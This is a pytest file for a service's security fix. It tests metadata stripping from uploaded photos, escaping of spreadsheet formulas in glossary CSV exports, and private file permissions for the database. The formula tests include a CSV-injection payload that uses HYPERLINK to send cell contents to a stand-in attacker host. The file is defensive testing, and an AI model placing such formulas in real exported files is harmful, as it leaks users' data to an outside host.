"""Issue 16: only pixels leave with a photo, spreadsheet-safe glossary export, private instance files."""

import csv
import io
import json
import os
import sqlite3
import stat
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from PIL import Image
from PIL import ImageCms
from PIL import PngImagePlugin

from feedsvc import photos
from feedsvc.storage import connect
from feedsvc.translation import glossary

ROOT = Path(__file__).resolve().parent.parent

MARKERS = (b"PLANTED-COMMENT", b"PLANTED-EXIF", b"PLANTED-XMP", b"PLANTED-TEXT", b"PLANTED-ITXT", b"PLANTED-ICC")


def planted_icc() -> bytes:
    """A real sRGB profile with a marker in its description, as a camera or an attacker could write."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    return profile.tobytes() + b"PLANTED-ICC"  # trailing bytes: littlecms still reads the profile


def planted_exif() -> Image.Exif:
    """EXIF with an image description and GPS-like data carrying a marker."""
    exif = Image.Exif()
    exif[0x010E] = "PLANTED-EXIF"  # ImageDescription
    exif[0x8298] = "PLANTED-EXIF copyright"
    return exif


def planted_image(fmt: str) -> bytes:
    """A 64×48 image of ``fmt`` with every metadata kind the format can carry, each holding a marker."""
    image = Image.new("RGB", (64, 48), (200, 30, 40))
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">PLANTED-XMP</x:xmpmeta>'
    if fmt == "JPEG":
        image.save(out, "JPEG", comment=b"PLANTED-COMMENT", exif=planted_exif(), icc_profile=planted_icc())
    elif fmt == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "PLANTED-TEXT")
        info.add_itxt("Description", "PLANTED-ITXT", lang="en", tkey="d")
        image.save(out, "PNG", pnginfo=info, icc_profile=planted_icc(), exif=planted_exif())
    else:
        image.save(out, "WEBP", exif=planted_exif(), xmp=xmp, icc_profile=planted_icc())
    data = out.getvalue()
    assert sum(marker in data for marker in MARKERS) >= 3, "the planted file must carry the markers"
    return data


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_stored_photo_carries_no_metadata_and_still_decodes(tmp_path, fmt):
    saved = photos.save_photo(planted_image(fmt), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    stored = (tmp_path / saved["photo"]).read_bytes()
    assert [marker for marker in MARKERS if marker in stored] == []
    with Image.open(io.BytesIO(stored)) as image:
        image.load()
        assert (image.format, image.size) == (fmt, (64, 48))
        assert not {"icc_profile", "exif", "comment", "xmp", "XML:com.adobe.xmp"} & set(image.info)
        assert not image.getexif()


def linear_rgb_profile() -> bytes:
    """A minimal ICC v2 RGB profile: sRGB primaries with linear (gamma 1.0) curves, so converting changes pixels."""
    def xyz(x: float, y: float, z: float) -> bytes:
        """An XYZType tag."""
        return b"XYZ \0\0\0\0" + b"".join(struct.pack(">i", round(v * 65536)) for v in (x, y, z))

    curve = b"curv\0\0\0\0" + struct.pack(">IH", 1, 256) + b"\0\0"  # gamma 1.0, padded to 4 bytes
    tags = [(b"wtpt", xyz(0.9642, 1.0, 0.8249)), (b"rXYZ", xyz(0.4361, 0.2225, 0.0139)),
            (b"gXYZ", xyz(0.3851, 0.7169, 0.0971)), (b"bXYZ", xyz(0.1431, 0.0606, 0.7141)),
            (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve)]
    offset, table, data = 128 + 4 + 12 * len(tags), b"", b""
    for signature, body in tags:
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    size = offset + len(data)
    header = (struct.pack(">I", size) + b"lcms" + struct.pack(">I", 0x02100000) + b"mntrRGB XYZ " + bytes(12)
              + b"acsp" + bytes(24) + struct.pack(">I", 0) + xyz(0.9642, 1.0, 0.8249)[8:] + bytes(48))
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data


def test_colours_are_converted_to_srgb_before_the_profile_is_dropped(tmp_path):
    profile = ImageCms.ImageCmsProfile(io.BytesIO(linear_rgb_profile()))
    image = Image.new("RGB", (8, 8), (128, 64, 32))
    out = io.BytesIO()
    image.save(out, "PNG", icc_profile=linear_rgb_profile())
    expected = ImageCms.profileToProfile(image, profile, ImageCms.createProfile("sRGB")).getpixel((0, 0))
    saved = photos.save_photo(out.getvalue(), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    with Image.open(tmp_path / saved["photo"]) as stored:
        assert "icc_profile" not in stored.info
        assert stored.getpixel((0, 0)) == expected
    assert expected[0] > 150  # linear 128 is a light tone in sRGB: the conversion happened


def test_photo_with_an_unusable_profile_is_stored_without_it(tmp_path):
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "PNG", icc_profile=b"PLANTED-ICC not a profile at all")
    saved = photos.save_photo(out.getvalue(), str(tmp_path), max_bytes=10**7, max_pixels=10**7)
    stored = (tmp_path / saved["photo"]).read_bytes()
    assert b"PLANTED-ICC" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.getpixel((0, 0)) == (1, 2, 3)


# --- glossary export: no formulas reach a spreadsheet --------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "'=already quoted",
            "''+two quotes", "it's = fine", "'plain quote")


def test_glossary_export_neutralises_formulas_and_import_gives_them_back(db):
    for number, text in enumerate(FORMULAS):
        glossary.save_term(db, f"термин{number}", {"en": text, "kk": text})
    exported = glossary.export_csv(db)
    rows = list(csv.reader(io.StringIO(exported)))[1:]
    for row in rows:
        for cell in row[1:]:
            assert not cell.startswith(glossary.FORMULA_STARTS), cell
    assert rows[0][1] == "'" + FORMULAS[0] and rows[5][1] == "'''+two quotes" and rows[7][1] == "'plain quote"
    before = [(t.source, t.targets) for t in glossary.load_terms(db)]
    db.execute("delete from glossary_terms")
    assert glossary.import_csv(db, exported) == len(FORMULAS)
    assert [(t.source, t.targets) for t in glossary.load_terms(db)] == before


@pytest.mark.parametrize(("text", "cell"), [("=1+2", "'=1+2"), ("-ish", "'-ish"), ("@x", "'@x"), ("\tx", "'\tx"),
                                            ("'=x", "''=x"), ("a=b", "a=b"), ("'a", "'a"), ("", "")])
def test_escape_rule_is_reversible(text, cell):
    assert glossary.escape_cell(text) == cell
    assert glossary.unescape_cell(cell) == text


# --- instance files: readable by the service account only ---------------------------------------------------------


def mode(path) -> int:
    """A file's permission bits."""
    return stat.S_IMODE(os.stat(path).st_mode)


# Run in a fresh process: umask 0 (files world-writable by default) applies to it alone. Flask takes the
# instance folder from its constructor only, hence the subclass.
PERMISSIONS_SCRIPT = """
import json, os, stat, sys
import flask
os.umask(0)
original = flask.Flask.__init__
flask.Flask.__init__ = lambda self, *a, **k: original(self, *a, **{**k, "instance_path": sys.argv[1]})
from feedsvc import create_app
from feedsvc.storage import connect
app = create_app({"TESTING": True, "DATABASE": os.path.join(sys.argv[1], "feedsvc.db")})
db = connect(app.config["DATABASE"])
db.execute("create table t (x)")
db.execute("insert into t values (1)")
paths = [sys.argv[1]] + [app.config["DATABASE"] + suffix for suffix in ("", "-wal", "-shm")]
print(json.dumps([oct(stat.S_IMODE(os.stat(path).st_mode)) for path in paths]))
"""


def test_database_and_its_wal_files_are_0600_and_the_instance_folder_0700_whatever_the_umask(tmp_path):
    instance = tmp_path / "instance"
    done = subprocess.run([sys.executable, "-c", PERMISSIONS_SCRIPT, str(instance)], capture_output=True,
                          text=True, cwd=str(ROOT))
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == ["0o700", "0o600", "0o600", "0o600"]


def test_an_existing_world_readable_database_is_made_private_on_open(tmp_path):
    path = tmp_path / "old.db"
    sqlite3.connect(path).close()
    path.chmod(0o644)
    connect(str(path)).close()
    assert mode(path) == 0o600
